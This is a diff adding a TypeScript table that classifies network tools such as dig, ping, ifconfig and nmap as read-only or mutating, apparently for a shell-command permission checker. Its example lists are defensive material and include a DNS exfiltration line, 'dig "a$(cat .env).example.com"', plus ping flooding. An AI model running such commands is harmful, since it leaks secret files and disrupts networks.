@@ -1,0 +1,198 @@
+// Older programs for the network, and those that ask other machines: netstat, ifconfig, route, arp, dig, host, ping.
+import { anything, onlyVersion, prints } from "../forms.ts";
+import { options } from "../options.ts";
+import {
+  choice,
+  commands,
+  connects,
+  controlsProcess,
+  controlsSystem,
+  type Entry,
+  reads,
+  runsCode,
+  sends,
+  text,
+  unknown,
+} from "../schema.ts";
+
+const manual = (page: string, section: number): string =>
+  `https://man7.org/linux/man-pages/man${section}/${page}.${section}.html`;
+// A name is sent to servers of whoever owns it, so it counts as a host.
+const digs = choice({}, connects, { prefixes: { "+": text } });
+
+const pings: Entry = {
+  does: "sends echo requests to a host",
+  manual: manual("ping", 8),
+  options: options(
+    "-3 -4 -6 -a -A -b -B -c= -C -d -D -e= -F= -h -H -i= -I= -l= -L -m= -M= -n -N= -O -p= -q -Q= -r -R -s= -S= -t= -T= -U -v -V -w= -W= --apple-connect --apple-time -G= -g= -k= -K= -o -z= -x=",
+    // It floods, or fills the network.
+    { "-f": { does: controlsProcess } },
+  ),
+  operands: { none: text, each: connects },
+  examples: {
+    read_only: ["ping -c 3 example.com", "ping -c1 -W 2 10.0.0.1", "ping -4nqc 5 host"],
+    mutating: ["ping -f host", "ping -c 3 -f host"],
+  },
+};
+
+export const netTools = commands({
+  netstat: {
+    does: "lists sockets, routes and statistics",
+    manual: manual("netstat", 8),
+    // The letters of Linux, the BSDs and macOS; none of the first two has one that changes anything.
+    options: options(
+      "-r|--route -g|--groups -i|--interfaces? -M|--masquerade -s|--statistics -e|--extend -p|--program|--programs -l|--listening -a|--all -n|--numeric --numeric-hosts --numeric-ports --numeric-users -N|--symbolic -A|--protocol= -c|--continuous -o|--timers -t|--tcp -u|--udp -U|--udplite -S|--sctp -w|--raw -x|--unix -W|--wide -v|--verbose -F -C|--cache -V|--version -h|--help -4 -6 -2|--bluetooth -b -d -f= -I= -L -m -P -q -R -T -Z",
+    ),
+    operands: anything,
+    examples: { read_only: ["netstat -tulpn", "netstat -rn", "netstat -an -p tcp"], mutating: ["netstat -z"] },
+  },
+  ifconfig: {
+    does: "prints or changes network devices",
+    manual: manual("ifconfig", 8),
+    grammar: "posix",
+    options: options("-a -s -v -l -m -L -r -u -d -C --version --help -h", { "-X": { value: text } }),
+    // The name of a device only prints; a second word changes it.
+    operands: { first: [text], each: choice({ inet: text, inet6: text, ether: text, link: text }, controlsSystem) },
+    examples: {
+      read_only: ["ifconfig", "ifconfig -a", "ifconfig eth0", "ifconfig en0 inet"],
+      mutating: ["ifconfig eth0 down", "ifconfig eth0 inet 10.0.0.1"],
+    },
+  },
+  route: {
+    does: "prints or changes routes",
+    manual: manual("route", 8),
+    grammar: "posix",
+    options: options("-n -e -ee -v -F -C -4 -6 -A= --version --help"),
+    operands: { each: controlsSystem },
+    examples: { read_only: ["route -n", "route"], mutating: ["route add default gw x", "route del x", "route flush"] },
+  },
+  arp: {
+    does: "prints or changes the table of neighbours",
+    manual: manual("arp", 8),
+    options: options("-a -e -n|--numeric -v|--verbose -D|--use-device -H|--hw-type|-t= -i|--device= -l -x -V --help"),
+    operands: { first: [text] },
+    examples: { read_only: ["arp -an", "arp -n host"], mutating: ["arp -d host", "arp -s a b", "arp -f x"] },
+  },
+  dig: {
+    does: "asks name servers",
+    manual: "https://bind9.readthedocs.io/en/stable/manpages.html#dig-dns-lookup-utility",
+    options: options("-4 -6 -b= -c= -h -i -m -p= -q= -r -t= -u -v -x= -y=", {
+      "-f": { value: sends },
+      "-k": { value: reads },
+    }),
+    operands: { each: digs },
+    always: connects,
+    examples: {
+      read_only: ["dig +short example.com", "dig @1.1.1.1 example.com MX", "dig -x 1.1.1.1 +noall +answer"],
+      mutating: ["dig -f names.txt", 'dig "$x"', 'dig "a$(cat .env).example.com"'],
+    },
+  },
+  host: {
+    does: "asks name servers",
+    manual: "https://bind9.readthedocs.io/en/stable/manpages.html#host-dns-lookup-utility",
+    options: options("-a -A -C -c= -d -l -m= -N= -p= -r -R= -s -t= -T -U -v -V -w -W= -4 -6 -i"),
+    operands: { each: connects },
+    always: connects,
+    examples: { read_only: ["host example.com", "host -t mx example.com 1.1.1.1"], mutating: ['host "$x"'] },
+  },
+  nslookup: {
+    does: "asks name servers",
+    manual: "https://bind9.readthedocs.io/en/stable/manpages.html#nslookup-query-internet-name-servers-interactively",
+    grammar: "verbatim",
+    operands: {
+      none: unknown("reads commands"),
+      each: choice({ "-": unknown("reads commands") }, connects, { prefixes: { "-": text } }),
+    },
+    examples: {
+      read_only: ["nslookup example.com", "nslookup -type=mx example.com 1.1.1.1"],
+      mutating: ["nslookup", "nslookup - 1.1.1.1"],
+    },
+  },
+  delv: {
+    ...prints("asks name servers and checks the answers", "-4 -6 -b= -c= -d= -h -i -m -p= -q= -t= -v -x= +short"),
+    options: options("-4 -6 -b= -c= -d= -h -i -m -p= -q= -t= -v -x=", { "-a": { value: reads } }),
+    manual: "https://bind9.readthedocs.io/en/stable/manpages.html#delv-dns-lookup-and-validation-utility",
+    always: connects,
+    examples: { read_only: ["delv example.com"] },
+  },
+  whois: {
+    does: "asks who owns a name",
+    manual: "https://man7.org/linux/man-pages/man1/whois.1.html",
+    options: options(
+      "-h|--host= -p|--port= -I -H -a -b -B -c -d -F -G -i= -K -l -L -m -M -q= -r -R -s= -t= -T= -v= -x --verbose --no-recursion --help --version",
+    ),
+    operands: anything,
+    always: connects,
+    examples: { read_only: ["whois example.com"] },
+  },
+  ping: pings,
+  ping6: { ...pings, examples: { read_only: ["ping6 -c 2 ::1"], mutating: ["ping6 -f ::1"] } },
+  arping: {
+    does: "sends requests to a neighbour",
+    manual: manual("arping", 8),
+    options: options("-f -q -b -D -c= -w= -i= -I= -s= -V -h"),
+    operands: { each: connects },
+    examples: { read_only: ["arping -c 2 10.0.0.1"], mutating: ["arping -U 10.0.0.1", "arping -A 10.0.0.1"] },
+  },
+  tracepath: {
+    does: "prints the way to a host",
+    manual: manual("tracepath", 8),
+    options: options("-4 -6 -b -l= -m= -n -p= -V"),
+    operands: { each: connects },
+    examples: { read_only: ["tracepath -n example.com"] },
+  },
+  traceroute: {
+    does: "prints the way to a host",
+    manual: manual("traceroute", 8),
+    options: options(
+      "-4 -6 -d|--debug -F|--dont-fragment -f|--first= -g|--gateway= -I|--icmp -T|--tcp -i|--interface= -m|--max-hops= -N|--sim-queries= -n -p|--port= -t|--tos= -l|--flowlabel= -w|--wait= -q|--queries= -r -s|--source= -z|--sendwait= -e|--extensions -A|--as-path-lookups -M|--module= -O|--options= -U|--udp -D|--dccp -P|--protocol= --sport= --fwmark= --mtu --back -V|--version --help -a -S -v -x",
+    ),
+    operands: { first: [connects], each: text },
+    examples: { read_only: ["traceroute -n example.com", "traceroute -I host"] },
+  },
+  mtr: {
+    does: "prints the way to a host again and again",
+    manual: "https://github.com/traviscross/mtr",
+    options: options(
+      "-4 -6 -n|--no-dns -b|--show-ips -o|--order= -y|--ipinfo= -z|--aslookup -i|--interval= -c|--report-cycles= -s|--psize= -B|--bitpattern= -G|--gracetime= -Q|--tos= -e|--mpls -I|--interface= -a|--address= -f|--first-ttl= -m|--max-ttl= -U|--max-unknown= -u|--udp -T|--tcp -S|--sctp -P|--port= -L|--localport= -Z|--timeout= -M|--mark= -h|--help -v|--version -x|--xml -w|--report-wide -r|--report -t|--curses -p|--split -l|--raw -C|--csv -j|--json",
+      { "-F, --filename": { value: sends } },
+    ),
+    operands: { each: connects },
+    examples: { read_only: ["mtr -rwc 5 example.com", "mtr --report --json host"] },
+  },
+  "speedtest-cli": {
+    does: "measures the connection",
+    manual: "https://github.com/sivel/speedtest-cli",
+    options: options(
+      "-h --help --version --simple --json --csv --list --bytes --secure --no-upload --no-download --server= --timeout=",
+    ),
+    always: sends,
+    examples: { mutating: ["speedtest-cli"] },
+  },
+  ...Object.fromEntries(
+    (
+      [
+        ["nmap", "looks for hosts and services", "https://nmap.org/book/man.html", "-V|--version -h|--help"],
+        [
+          "tcpdump",
+          "captures packets",
+          "https://www.tcpdump.org/manpages/tcpdump.1.html",
+          "--version -h|--help -D|--list-interfaces",
+        ],
+        [
+          "tshark",
+          "captures packets",
+          "https://www.wireshark.org/docs/man-pages/tshark.html",
+          "-v|--version -h|--help -D",
+        ],
+        ["iperf3", "measures the network", "https://software.es.net/iperf/", "-v|--version -h|--help"],
+      ] as const
+    ).map(([name, does, address, stops]): [string, Entry] => [
+      name,
+      {
+        ...onlyVersion(does, address, stops, runsCode),
+        examples: { read_only: [`${name} ${stops.split(/[|\s]/)[0]}`], mutating: [`${name} x`, `${name} -w out -V`] },
+      },
+    ]),
+  ),
+});
